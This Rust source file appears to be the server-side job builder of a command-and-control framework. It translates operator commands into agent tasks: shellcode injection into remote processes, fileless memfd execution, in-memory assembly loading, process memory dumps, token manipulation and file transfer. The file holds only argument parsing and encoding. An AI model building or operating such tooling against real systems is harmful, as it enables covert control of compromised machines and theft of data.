//! Translates an operator command name and argument vector into a typed
//! job payload. Pure except for the kinds that embed local file content
//! (`upload`, `load-assembly`, `memfd`), which read the file, hash it,
//! and base64-encode it here.

use std::path::Path;

use base64::engine::general_purpose;
use base64::Engine;
use sha2::{Digest, Sha256};

use crate::error::Error;
use jobs::{Command, FileTransfer, JobType, Payload, Shellcode};

/// A payload ready to be enqueued, plus the argument vector as amended by
/// the build (file hashes and sizes are appended for summary logging).
pub(crate) struct Built {
    pub kind: JobType,
    pub payload: Payload,
    pub args: Vec<String>,
}

impl Built {
    fn command(kind: JobType, name: impl Into<String>, args: Vec<String>) -> Self {
        Self {
            kind,
            payload: Payload::Command(Command {
                name: name.into(),
                args: args.clone(),
            }),
            args,
        }
    }
}

pub(crate) fn build(kind: &str, mut args: Vec<String>) -> Result<Built, Error> {
    match kind {
        // Agent configuration directives.
        "agentInfo" | "initialize" | "exit" | "changelistener" | "ja3" | "killdate"
        | "maxretry" | "padding" | "skew" | "sleep" => {
            Ok(Built::command(JobType::Control, kind, args))
        }

        // Built-in agent actions.
        "cd" | "env" | "ifconfig" | "killprocess" | "nslookup" | "sdelete" | "touch" => {
            Ok(Built::command(JobType::Native, kind, args))
        }
        "ls" => {
            if args.is_empty() {
                args.push("./".to_string());
            }
            Ok(Built::command(JobType::Native, kind, args))
        }
        "pwd" => Ok(Built::command(JobType::Native, kind, Vec::new())),
        "rm" => {
            if args.is_empty() {
                return Err(Error::arguments(kind, "expected a file path"));
            }
            args.truncate(1);
            Ok(Built::command(JobType::Native, kind, args))
        }

        // Exec and shell.
        "run" | "exec" => {
            if args.is_empty() {
                return Err(Error::arguments(kind, "expected an executable to run"));
            }
            let name = args.remove(0);
            Ok(Built::command(JobType::Cmd, name, args))
        }
        "shell" => Ok(Built::command(JobType::Cmd, "shell", args)),

        // Agent-side modules.
        "CreateProcess" | "link" | "listener" | "memory" | "Minidump" | "netstat"
        | "runas" | "ssh" | "token" | "unlink" => {
            Ok(Built::command(JobType::Module, kind, args))
        }
        "pipes" | "ps" | "uptime" => Ok(Built::command(JobType::Module, kind, Vec::new())),
        "invoke-assembly" => {
            if args.is_empty() {
                return Err(Error::arguments(kind, "expected an assembly name"));
            }
            let mut clr_args = vec![kind.to_string()];
            clr_args.extend(args.iter().cloned());
            Ok(Built {
                kind: JobType::Module,
                payload: Payload::Command(Command {
                    name: "clr".to_string(),
                    args: clr_args,
                }),
                args,
            })
        }
        "list-assemblies" => Ok(Built {
            kind: JobType::Module,
            payload: Payload::Command(Command {
                name: "clr".to_string(),
                args: vec![kind.to_string()],
            }),
            args,
        }),
        "load-clr" => {
            if args.is_empty() {
                return Err(Error::arguments(kind, "expected a path to the CLR"));
            }
            let mut clr_args = vec![kind.to_string()];
            clr_args.extend(args.iter().cloned());
            Ok(Built {
                kind: JobType::Module,
                payload: Payload::Command(Command {
                    name: "clr".to_string(),
                    args: clr_args,
                }),
                args,
            })
        }
        "load-assembly" => {
            if args.is_empty() {
                return Err(Error::arguments(kind, "expected a path to the assembly"));
            }
            let encoded = EncodedFile::read(&args[0])?;
            // The assembly keeps its file name unless the operator gave one.
            let name = match args.get(1) {
                Some(name) => name.clone(),
                None => basename(&args[0]),
            };
            args.push(encoded.sha256);
            Ok(Built {
                kind: JobType::Module,
                payload: Payload::Command(Command {
                    name: "clr".to_string(),
                    args: vec![kind.to_string(), encoded.blob, name],
                }),
                args,
            })
        }
        "memfd" => {
            if args.is_empty() {
                return Err(Error::arguments(kind, "expected a path to the executable"));
            }
            let encoded = EncodedFile::read(&args[0])?;
            let mut payload_args = vec![encoded.blob];
            payload_args.extend(args.iter().skip(1).cloned());
            args.push(encoded.sha256);
            Ok(Built {
                kind: JobType::Module,
                payload: Payload::Command(Command {
                    name: kind.to_string(),
                    args: payload_args,
                }),
                args,
            })
        }

        // File movement between the server and the agent.
        "download" => {
            if args.is_empty() {
                return Err(Error::arguments(kind, "expected a remote file path"));
            }
            Ok(Built {
                kind: JobType::FileTransfer,
                payload: Payload::FileTransfer(FileTransfer {
                    location: args[0].clone(),
                    blob: String::new(),
                    is_download: false,
                }),
                args,
            })
        }
        "upload" => {
            if args.len() < 2 {
                return Err(Error::arguments(
                    kind,
                    format!("expected <server_path> <remote_path>, received {}", args.len()),
                ));
            }
            let encoded = EncodedFile::read(&args[0])?;
            // Slots 2 and 3 carry the hash and byte count for the audit log.
            set_or_push(&mut args, 2, encoded.sha256.clone());
            set_or_push(&mut args, 3, encoded.len.to_string());
            Ok(Built {
                kind: JobType::FileTransfer,
                payload: Payload::FileTransfer(FileTransfer {
                    location: args[1].clone(),
                    blob: encoded.blob,
                    is_download: true,
                }),
                args,
            })
        }

        "shellcode" => build_shellcode(args),

        other => Err(Error::UnknownKind(other.to_string())),
    }
}

fn build_shellcode(args: Vec<String>) -> Result<Built, Error> {
    let Some(method) = args.first() else {
        return Err(Error::arguments("shellcode", "expected an execution method"));
    };
    let method = method.to_lowercase();
    let payload = match method.as_str() {
        "self" => {
            let Some(bytes) = args.get(1) else {
                return Err(Error::arguments("shellcode", "expected shellcode bytes"));
            };
            Shellcode {
                method,
                pid: 0,
                bytes: bytes.clone(),
            }
        }
        "remote" | "rtlcreateuserthread" | "userapc" => {
            if args.len() < 3 {
                return Err(Error::arguments(
                    "shellcode",
                    format!("expected <method> <pid> <bytes>, received {}", args.len()),
                ));
            }
            let pid: u32 = args[1]
                .parse()
                .map_err(|_| Error::arguments("shellcode", format!("invalid pid {}", args[1])))?;
            Shellcode {
                method,
                pid,
                bytes: args[2].clone(),
            }
        }
        other => {
            return Err(Error::arguments(
                "shellcode",
                format!("unknown execution method {other}"),
            ));
        }
    };
    Ok(Built {
        kind: JobType::Shellcode,
        payload: Payload::Shellcode(payload),
        args,
    })
}

struct EncodedFile {
    blob: String,
    sha256: String,
    len: usize,
}

impl EncodedFile {
    fn read(path: &str) -> Result<Self, Error> {
        let data = std::fs::read(path)?;
        let mut hasher = Sha256::new();
        hasher.update(&data);
        Ok(Self {
            blob: general_purpose::STANDARD.encode(&data),
            sha256: format!("{:02x}", hasher.finalize()),
            len: data.len(),
        })
    }
}

fn basename(path: &str) -> String {
    Path::new(path)
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_else(|| path.to_string())
}

fn set_or_push(args: &mut Vec<String>, index: usize, value: String) {
    if args.len() > index {
        args[index] = value;
    } else {
        args.push(value);
    }
}
